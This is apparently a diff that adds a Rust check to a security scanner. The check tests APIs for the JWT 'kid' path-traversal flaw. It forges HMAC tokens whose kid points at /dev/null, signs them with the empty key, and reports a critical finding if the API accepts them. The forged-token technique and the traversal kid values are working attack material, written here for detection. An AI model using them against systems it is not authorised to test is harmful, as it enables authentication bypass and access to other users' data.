@@ -1,0 +1,98 @@
+//! A JWT `kid` that selects attacker-controlled key material.
+//!
+//! The `kid` header names the key to verify with. A verifier that turns it
+//! into a file path (`open(KEYS_DIR / kid)`) or a query without checking it
+//! lets the attacker choose the key: `../../../../dev/null` reads an empty
+//! file, and an HMAC keyed with the empty string is something anyone can
+//! compute.
+//!
+//! Rampart uses safe forms only — path traversal to `/dev/null`, which
+//! reads nothing and writes nothing — on HMAC-signed tokens that carry a
+//! `kid`, and signs with the empty key, where the same empty-key token with
+//! the genuine `kid` is refused.
+
+use async_trait::async_trait;
+use serde_json::{Map, Value};
+
+use super::{accepted_twice, bench, forgery_draft, impact, jwt_credentials, refreshed};
+use crate::checks::{Check, CheckMeta, Mode, Outcome, RunsOn, Skip, TargetContext};
+use crate::facts::Needs;
+use crate::finding::{Category, Severity};
+use crate::tokens::jwt::{self, Signature};
+
+pub struct Kid;
+
+static META: CheckMeta = CheckMeta {
+    id: "token.jwt-kid",
+    category: Category::Authentication,
+    severity: Severity::Critical,
+    summary: "JWT kid header selects attacker-controlled key material (path traversal to /dev/null)",
+    mode: Mode::Active,
+    runs_on: RunsOn::Target,
+    min_identities: 1,
+    needs: Needs::TOKENS.and(Needs::IDENTITIES),
+};
+
+/// Key ids that read an empty file, wherever the keys directory is.
+const EMPTY_FILE_KIDS: &[&str] = &["../../../../../../../../../../dev/null", "/dev/null"];
+
+#[async_trait]
+impl Check for Kid {
+    fn meta(&self) -> &'static CheckMeta {
+        &META
+    }
+
+    async fn probe_target(&self, ctx: &TargetContext<'_>) -> Outcome {
+        let credentials: Vec<_> = jwt_credentials(ctx.facts)?
+            .into_iter()
+            .filter(|c| c.jwt().is_some_and(|j| j.kid().is_some() && j.hmac_digest().is_some()))
+            .collect();
+        if credentials.is_empty() {
+            return Err(Skip::NotApplicable("no HMAC-signed JWT with a kid header"));
+        }
+        let mut skip = None;
+        for credential in credentials {
+            let Some(token) = credential.jwt() else { continue };
+            let Some(digest) = token.hmac_digest() else { continue };
+            let claims = refreshed(ctx, &token.claims);
+            // The control: the empty key under the genuine kid.
+            let control = jwt::encode(&token.header, &claims, Signature::Hmac(digest, b""));
+            let bench = match bench(ctx, &credential, &control, true).await? {
+                Ok(bench) => bench,
+                Err(reason) => {
+                    skip.get_or_insert(reason);
+                    continue;
+                }
+            };
+            for kid in EMPTY_FILE_KIDS {
+                let mut header = token.header.clone();
+                header.insert("kid".into(), Value::from(*kid));
+                let forged = jwt::encode(&header, &claims, Signature::Hmac(digest, b""));
+                let Some(accepted) = accepted_twice(ctx, &credential, bench.point, &forged, credential.identity).await? else {
+                    continue;
+                };
+                let make = |claims: &Map<String, Value>| Some(jwt::encode(&header, claims, Signature::Hmac(digest, b"")));
+                let shown = impact(ctx, &credential, bench.point, &claims, make).await?;
+                let other = shown
+                    .as_ref()
+                    .map(|(other, _)| format!(" A token naming {other}, made the same way, returned {other}'s data."))
+                    .unwrap_or_default();
+                let step = format!("`\"kid\": \"{kid}\"` with an HMAC over the empty key gets {}'s data", credential.identity);
+                let draft = forgery_draft(Severity::Critical, &bench, &accepted, &step, shown.as_ref())
+                    .title("JWT kid path traversal: a token keyed with /dev/null's empty contents is accepted")
+                    .description(format!(
+                        "With `kid` set to `{kid}`, an {} token signed with the empty key is accepted by {}, where the \
+                         same token under the genuine kid (`{}`) is refused: the API reads its key from a path built \
+                         from `kid`. Anyone can pick the key, and so sign any claims.{other}",
+                        token.alg(),
+                        bench.point.template,
+                        token.kid().unwrap_or_default()
+                    ))
+                    .key("kid-traversal");
+                return Ok(vec![draft]);
+            }
+            return Ok(Vec::new());
+        }
+        Err(skip.unwrap_or(Skip::Missing("no caller-specific answer to test the token on")))
+    }
+}
